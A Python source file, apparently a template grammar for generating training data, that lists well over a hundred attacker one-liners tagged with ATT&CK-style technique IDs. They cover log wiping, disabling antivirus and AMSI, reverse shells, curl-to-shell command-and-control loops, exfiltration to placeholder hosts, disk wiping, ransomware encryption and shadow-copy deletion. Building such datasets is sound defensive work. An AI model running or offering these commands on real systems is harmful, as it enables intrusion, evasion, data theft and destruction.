"""Classic one-liners that hide, move on, collect, carry out and destroy."""

from __future__ import annotations

from training.generators.grammar import parse_templates

CLASSIC_IMPACT_LINES = parse_templates(
    r"""
# T1140
ac-certutil-decode-b64 cmd +T1140: certutil -decode ‹name›.b64 ‹name›.exe
ac-certutil-decodehex-hex cmd +T1140: certutil -decodehex ‹name›.hex ‹name›.dll
ac-echo-base64-d bash +T1140: echo ‹hash›‹hash› | base64 -d > /tmp/‹name›
ac-base64-d-tmp bash +T1140: base64 -d /tmp/‹name›.b64 | sh
ac-openssl-enc-aes bash +T1140: openssl enc -aes-256-cbc -d -in /tmp/‹name›.enc -out /tmp/‹name› -k '‹pass›'
ac-io-file-writeallbytes powershell +T1140: [IO.File]::WriteAllBytes("$env:TEMP\‹name›.exe",[Convert]::FromBase64String((gc $env:TEMP\‹name›.txt)))
# T1070.003
ac-clear-history-remove powershell +T1070.003: Clear-History; Remove-Item (Get-PSReadLineOption).HistorySavePath
ac-history bash +T1070.003: history -c
ac-rm-bash-history bash +T1070.003: rm ~/.bash_history
ac-cat-dev-null bash +T1070.003: cat /dev/null > ~/.bash_history
ac-ln-sf-dev bash +T1070.003: ln -sf /dev/null ~/.bash_history
# T1690
ac-unset-histfile bash +T1690: unset HISTFILE
ac-export-histsize-0 bash +T1690: export HISTSIZE=0
ac-export-histfile-dev bash +T1690: export HISTFILE=/dev/null
# T1070.004
ac-del-f-q cmd +T1070.004: del /f /q C:\Users\Public\‹name›.exe
ac-sdelete-accepteula-users cmd +T1070.004: sdelete.exe -accepteula C:\Users\Public\‹name›.exe
ac-ping-127-0 cmd +T1070.004: ping 127.0.0.1 -n 3 > nul & del /f /q %TEMP%\‹name›.exe
ac-rm-f-tmp bash +T1070.004: rm -f /tmp/.‹name› /dev/shm/‹name›
ac-shred-u-tmp bash +T1070.004: shred -u /tmp/‹name›
# T1070.006
ac-touch-r-bin bash +T1070.006: touch -r /bin/ls /tmp/‹name›
ac-touch-t-201501010101 bash +T1070.006: touch -t 201501010101 /usr/bin/‹name›
ac-get-item-users powershell +T1070.006: (Get-Item C:\Users\Public\‹name›.exe).CreationTime = '01/01/2015 01:01:01'
# T1685.005
ac-wevtutil-cl-security cmd +T1685.005: wevtutil cl Security
ac-wevtutil-cl-system cmd +T1685.005: wevtutil cl System & wevtutil cl Application
ac-for-f-x cmd +T1685.005: for /f %x in ('wevtutil el') do wevtutil cl "%x"
ac-clear-eventlog-logname powershell +T1685.005: Clear-EventLog -LogName Security
# T1685.006
ac-rm-rf-var bash +T1685.006: rm -rf /var/log/*
ac-echo-var-log bash +T1685.006: echo > /var/log/auth.log
ac-var-log-wtmp bash +T1685.006: > /var/log/wtmp
ac-journalctl-rotate-vacuum bash +T1685.006: journalctl --rotate --vacuum-time=1s
# T1685.001
ac-auditpol-clear-y cmd +T1685.001: auditpol /clear /y
ac-auditpol-set-category cmd +T1685.001: auditpol /set /category:* /success:disable /failure:disable
# T1685.004
ac-auditctl-e-0 bash +T1685.004: auditctl -e 0
# T1685
ac-sc-stop-windefend cmd +T1685: sc stop WinDefend
ac-program-files-windows cmd +T1685: "C:\Program Files\Windows Defender\MpCmdRun.exe" -RemoveDefinitions -All
ac-fltmc-unload-sysmondrv cmd +T1685: fltmc unload SysmonDrv
ac-set-mppreference-disablerealtimemonitoring powershell +T1685: Set-MpPreference -DisableRealtimeMonitoring $true
ac-mppreference-realtime-spelt powershell +T1685: «Set-MpPreference¦set-mppreference» -DisableRealtimeMonitoring «1¦:$true¦$True -Force¦([bool]1)¦$true -ErrorAction SilentlyContinue»
ac-mppreference-realtime-cmd cmd +T1685: «powershell¦powershell.exe» «¦-c ¦-Command ¦-ep bypass -c »"Set-MpPreference -DisableRealtimeMonitoring «$true¦1»"
ac-mppreference-exclusion-folder powershell +T1685: Add-MpPreference -ExclusionPath «C:\Users\Public¦C:\Temp¦C:\¦C:\ProgramData¦$env:TEMP¦"‹dir›"»
ac-mppreference-exclusion-cmd cmd +T1685: «powershell¦powershell.exe» «¦-c ¦-Command »"«Add¦Set»-MpPreference -Exclusion«Path '‹dir›'¦Process '‹name›.exe'¦Extension '.exe'»"
ac-localgroup-administrators-spelt cmd +T1098: «net¦net1¦net.exe» localgroup «administrators¦Administrators¦"Administrators"» «‹name›¦‹domain›\‹user›¦‹user›» /«add¦ADD»
ac-add-mppreference-exclusionpath powershell +T1685: Add-MpPreference -ExclusionPath C:\Users\Public
ac-ref-assembly-gettype powershell +T1685: [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)
ac-setenforce-0 bash +T1685: setenforce 0
ac-systemctl-stop-falcon bash +T1685: systemctl stop falcon-sensor
ac-systemctl-stop-auditd bash +T1685.004: systemctl stop auditd
# T1686.003
ac-netsh-advfirewall-set cmd +T1686.003: netsh advfirewall set allprofiles state off
ac-netsh-firewall-set cmd +T1686.003: netsh firewall set opmode disable
ac-set-netfirewallprofile-profile powershell +T1686.003: Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False
# T1686
ac-iptables-f bash +T1686: iptables -F
ac-ufw-disable bash +T1686: ufw disable
# T1688
ac-bcdedit-set-default cmd +T1688: bcdedit /set {default} safeboot network
ac-bcdedit-set-safeboot cmd +T1688: bcdedit /set safeboot minimal & shutdown /r /f /t 0
# T1222.001
ac-takeown-f-windows cmd +T1222.001: takeown /f C:\Windows\System32\‹name›.dll
ac-icacls-grant-everyone cmd +T1222.001: icacls C:\* /grant Everyone:F /T /C /Q
# T1222.002
ac-chattr-i-etc bash +T1222.002: chattr -i /etc/ld.so.preload
ac-chmod-777-etc bash +T1222.002: chmod 777 /etc/shadow
# T1564.001
ac-attrib-h-s cmd +T1564.001: attrib +h +s C:\Users\Public\‹name›.exe
ac-mkdir-tmp-mv bash +T1564.001: mkdir /tmp/.‹name›; mv ‹name› /tmp/.‹name›/
# T1564.003
ac-powershell-w-hidden cmd +T1564.003: powershell -w hidden -c C:\Users\Public\‹name›.exe
# T1564.004
ac-type-users-public cmd +T1564.004: type ‹name›.exe > C:\Users\Public\readme.txt:‹name›.exe
ac-wmic-process-call-n4 cmd +T1564.004: wmic process call create C:\Users\Public\readme.txt:‹name›.exe
# T1036.003
ac-copy-windows-system32-n2 cmd +T1036.003: copy C:\Windows\System32\cmd.exe C:\Users\Public\svchost.exe
ac-copy-windows-system32-n3 cmd +T1036.003: copy C:\Windows\System32\rundll32.exe %TEMP%\‹name›.exe
# T1036.005
ac-move-users-public cmd +T1036.005: move C:\Users\Public\‹name›.exe C:\ProgramData\svchost.exe
ac-cp-tmp-usr bash +T1036.005: cp /tmp/‹name› /usr/sbin/sshd_ && /usr/sbin/sshd_
ac-mv-tmp-xmrig bash +T1036.005: mv /tmp/xmrig /tmp/[kworker]
# T1112
ac-reg-add-hklm-n4 cmd +T1112: reg add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f
ac-reg-add-hklm-n5 cmd +T1112: reg add HKLM\SYSTEM\CurrentControlSet\Control\Lsa /v DisableRestrictedAdmin /t REG_DWORD /d 0 /f
# T1027.004
ac-windows-microsoft-net-n2 cmd +T1027.004: C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe /out:C:\Users\Public\‹name›.exe C:\Users\Public\‹name›.cs
# T1620
ac-reflection-assembly-load powershell +T1620: [Reflection.Assembly]::Load((iwr http://‹ip›/‹name›.dll -UseBasicParsing).Content)
# T1553.004
ac-certutil-addstore-f cmd +T1553.004: certutil -addstore -f root ‹name›.cer
# T1553.005
ac-mount-diskimage-imagepath powershell +T1553.005: Mount-DiskImage -ImagePath $env:TEMP\‹name›.iso
ac-unblock-file-env powershell +T1553.005: Unblock-File $env:USERPROFILE\Downloads\‹name›.exe
# T1553.006
ac-bcdedit-set-testsigning cmd +T1553.006: bcdedit /set testsigning on
# T1021.001
ac-mstsc-v-restrictedadmin cmd +T1021.001: mstsc /v:‹ip› /restrictedadmin
# T1021.002
ac-net-use-user cmd +T1021.002: net use \\‹server›\C$ /user:‹domain›\‹user› ‹pass›
ac-net-use-admin cmd +T1021.002: net use \\‹ip›\ADMIN$ ‹pass› /user:Administrator
ac-smbclient-u bash +T1021.002: smbclient //‹ip›/C$ -U ‹domain›/‹user›%'‹pass›'
ac-smbexec-py bash +T1569.002: smbexec.py ‹domain›/‹user›:'‹pass›'@‹ip›
# T1021.003
ac-activator-createinstance-type powershell +T1021.003: [activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application','‹ip›')).Document.ActiveView.ExecuteShellCommand('cmd.exe',$null,'/c calc','7')
ac-dcomexec-py-object bash +T1021.003: dcomexec.py -object MMC20 ‹domain›/‹user›:'‹pass›'@‹ip›
# T1021.006
ac-winrs-r-u cmd +T1021.006: winrs -r:‹server› -u:‹domain›\‹user› -p:‹pass› cmd
ac-enter-pssession-computername powershell +T1021.006: Enter-PSSession -ComputerName ‹server› -Credential $cred
ac-invoke-command-computername-n2 powershell +T1021.006: Invoke-Command -ComputerName ‹server› -ScriptBlock { C:\Users\Public\‹name›.exe }
ac-evil-winrm-i-n2 bash +T1021.006: evil-winrm -i ‹ip› -u ‹user› -p '‹pass›'
# T1563.002
ac-tscon-dest-rdp cmd +T1563.002: tscon ‹n› /dest:rdp-tcp#‹n›
ac-sc-create-sesshijack cmd +T1563.002: sc create sesshijack binpath= "cmd.exe /k tscon ‹n› /dest:rdp-tcp#‹n›"
# T1570
ac-copy-users-public cmd +T1570: copy C:\Users\Public\‹name›.exe \\‹server›\C$\Windows\Temp\
ac-robocopy-programdata-admin cmd +T1570: robocopy C:\ProgramData\‹name› \\‹server›\ADMIN$\Temp ‹name›.exe
ac-scp-tmp-root bash +T1570: scp /tmp/‹name› root@‹ip›:/tmp/
# T1113
ac-add-type-assemblyname-n2 powershell +T1113: Add-Type -AssemblyName System.Windows.Forms,System.Drawing; $b=New-Object Drawing.Bitmap 1920,1080; ([Drawing.Graphics]::FromImage($b)).CopyFromScreen(0,0,0,0,$b.Size); $b.Save("$env:TEMP\‹name›.png")
ac-import-window-root bash +T1113: import -window root /tmp/‹name›.png
ac-xwd-root-out bash +T1113: xwd -root -out /tmp/‹name›.xwd
# T1115
ac-get-clipboard powershell +T1115: Get-Clipboard
ac-windows-forms-clipboard powershell +T1115: [Windows.Forms.Clipboard]::GetText()
ac-xclip-o-selection bash +T1115: xclip -o -selection clipboard
# T1005
ac-copy-users-documents cmd +T1074.001: copy C:\Users\‹user›\Documents\*.docx C:\Users\Public\‹name›\
# T1039
ac-xcopy-finance-xlsx cmd +T1039: xcopy \\‹server›\finance$\*.xlsx C:\Users\Public\‹name›\ /s /y
# T1074.001
ac-mkdir-users-public cmd +T1074.001: mkdir C:\Users\Public\‹name› & xcopy C:\Users\‹user›\Documents C:\Users\Public\‹name› /s /e /h /y
ac-mkdir-p-tmp bash +T1074.001: mkdir -p /tmp/.‹name›; find /home -name "*.pdf" -exec cp {} /tmp/.‹name› \;
# T1119
ac-for-r-users cmd +T1119: for /R C:\Users %f in (*.docx *.pdf) do copy "%f" C:\Users\Public\‹name›
# T1123
ac-get-microphoneaudio-path powershell +T1123: Get-MicrophoneAudio -Path $env:TEMP\‹name›.wav -Length 60
# T1114.001
ac-copy-users-documents-n2 cmd +T1114.001: copy "C:\Users\‹user›\Documents\Outlook Files\*.pst" C:\Users\Public\‹name›
# T1560.001
ac-rar-a-hp cmd +T1560.001: rar.exe a -hp‹pass› C:\Users\Public\‹name›.rar C:\Users\‹user›\Documents
ac-7z-a-p cmd +T1560.001: 7z.exe a -p‹pass› -mhe=on C:\ProgramData\‹name›.7z \\‹server›\share
ac-compress-archive-path powershell +T1560: Compress-Archive -Path C:\Users\‹user›\Documents -DestinationPath C:\Users\Public\‹name›.zip
ac-tar-czf-tmp bash +T1560.001: tar czf /tmp/.‹name›.tgz /home /root /etc
ac-zip-r-p bash +T1560.001: zip -r -P '‹pass›' /tmp/‹name›.zip /var/www /home
# T1071.001
ac-while-true-do bash +T1071.001: while true; do curl -s http://‹ip›/cmd/‹name› | sh | curl -s -d @- http://‹ip›/out/‹name›; sleep 60; done
# T1071.004
ac-dnscat2-dns-server cmd +T1071.004: dnscat2.exe --dns server=‹ip›,port=53 --secret=‹hash›
ac-iodine-f-p bash +T1071.004: iodine -f -P '‹pass›' t1.‹fqdn›
ac-dnscat-secret bash +T1071.004: ./dnscat --secret=‹hash› ‹fqdn›
# T1090
ac-netsh-interface-portproxy cmd +T1090: netsh interface portproxy add v4tov4 listenport=‹port› listenaddress=0.0.0.0 connectport=3389 connectaddress=‹ip›
ac-frpc-users-public cmd +T1090: frpc.exe -c C:\Users\Public\frpc.ini
# T1090.003
ac-proxychains-nmap-st bash +T1090: proxychains nmap -sT -Pn ‹ip›
# T1095
ac-nc-lvnp bash +T1095: nc -lvnp ‹port›
ac-nc-e-cmd cmd +T1095: nc.exe ‹ip› ‹port› -e cmd.exe
# T1572
ac-ssh-fn-r bash +T1572: ssh -fN -R ‹port›:127.0.0.1:22 ‹user›@‹ip›
ac-chisel-client-8080 bash +T1572: chisel client ‹ip›:8080 R:socks
ac-plink-ssh-r cmd +T1572: plink.exe -ssh -R ‹port›:127.0.0.1:3389 ‹user›@‹ip› -pw ‹pass›
ac-ngrok-tcp-3389 cmd +T1572: ngrok.exe tcp 3389
ac-chisel-client-http cmd +T1572: chisel.exe client http://‹ip›:8080 R:1080:socks
# T1219.002
ac-anydesk-install-programdata cmd +T1219.002: AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent
ac-echo-programdata-anydesk cmd +T1219.002: echo ‹pass› | C:\ProgramData\AnyDesk.exe --set-password
# T1048.003
ac-curl-t-tmp bash +T1048.003: curl -T /tmp/‹name›.tgz ftp://‹ip›/
ac-nc-w-3 bash +T1048.003: nc -w 3 ‹ip› ‹port› < /tmp/‹name›.tgz
ac-for-b-in bash +T1048.003: for b in $(xxd -p -c 30 /etc/passwd); do dig $b.‹fqdn›; done
ac-ftp-s-users cmd +T1048.003: ftp.exe -s:C:\Users\Public\‹name›.txt ‹ip›
# T1048.002
ac-scp-tmp-tgz bash +T1048.002: scp /tmp/‹name›.tgz ‹user›@‹ip›:/srv/in/
# T1041
ac-invoke-restmethod-uri powershell +T1048.003: Invoke-RestMethod -Uri http://‹ip›/upload -Method Post -InFile C:\Users\Public\‹name›.zip
# T1567.002
ac-rclone-copy-share cmd +T1567.002: rclone.exe copy \\‹server›\share mega:‹name› -q --ignore-existing --auto-confirm --multi-thread-streams 12
ac-rclone-copy-srv bash +T1567.002: rclone copy /srv/data remote:‹name› --transfers 32 -q
# T1485
ac-del-s-f cmd +T1485: del /s /f /q C:\Users\*.*
ac-format-d-q cmd +T1485: format D: /q /y
ac-rm-rf-no bash +T1485: rm -rf / --no-preserve-root
ac-shred-n-3 bash +T1561.001: shred -n 3 -z /dev/sda
# T1561.002
ac-dd-if-dev bash +T1561.002: dd if=/dev/zero of=/dev/sda bs=512 count=1
# T1561.001
ac-dd-if-dev-n2 bash +T1561.001: dd if=/dev/urandom of=/dev/sda bs=4M
# T1486
ac-find-home-type bash +T1486: find /home -type f -exec gpg --batch --yes -c --passphrase '‹pass›' {} \; -exec rm {} \;
ac-find-var-www bash +T1486: find /var/www -type f -exec openssl enc -aes-256-cbc -salt -in {} -out {}.locked -k '‹pass›' \;
ac-manage-bde-on cmd +T1486: manage-bde -on D: -pw -used -em aes256
# T1489
ac-net-stop-mssqlserver cmd +T1489: net stop MSSQLSERVER /y
ac-taskkill-f-im cmd +T1489: taskkill /f /im sqlservr.exe
ac-get-service-sql powershell +T1489: Get-Service *sql*,*veeam*,*backup* | Stop-Service -Force
# T1490
ac-vssadmin-delete-shadows cmd +T1490: vssadmin delete shadows /all /quiet
ac-wmic-shadowcopy-delete cmd +T1490: wmic shadowcopy delete
ac-bcdedit-set-default-n2 cmd +T1490: bcdedit /set {default} recoveryenabled no
ac-wbadmin-delete-catalog cmd +T1490: wbadmin delete catalog -quiet
ac-reagentc-disable cmd +T1490: reagentc /disable
ac-get-wmiobject-win32-n5 powershell +T1490: Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }
# T1496.001
ac-xmrig-o-pool bash +T1496.001: ./xmrig -o pool.supportxmr.com:3333 -u ‹hash›‹hash› -p x
ac-xmrig-o-stratum cmd +T1496.001: xmrig.exe -o stratum+tcp://‹ip›:3333 -u ‹hash› --donate-level=1
# T1529
ac-shutdown-h-now bash +T1529: shutdown -h now
ac-echo-b-proc bash +T1529: echo b > /proc/sysrq-trigger
# T1531
ac-net-user-delete cmd +T1531: net user ‹user› /delete
ac-passwd-l-root bash +T1531: passwd -l root; usermod -L ‹user›
ac-pkill-kill-u bash +T1531: pkill -KILL -u ‹user›; userdel -r ‹user›
# T1499
ac-line bash +T1499: :(){ :|:& };:
ac-hping3-s-flood bash +T1498: hping3 -S --flood -p 80 ‹ip›
# T1491.001
ac-echo-hacked-by bash +T1491.001: echo "HACKED BY ‹name›" > /var/www/html/index.html
"""
)
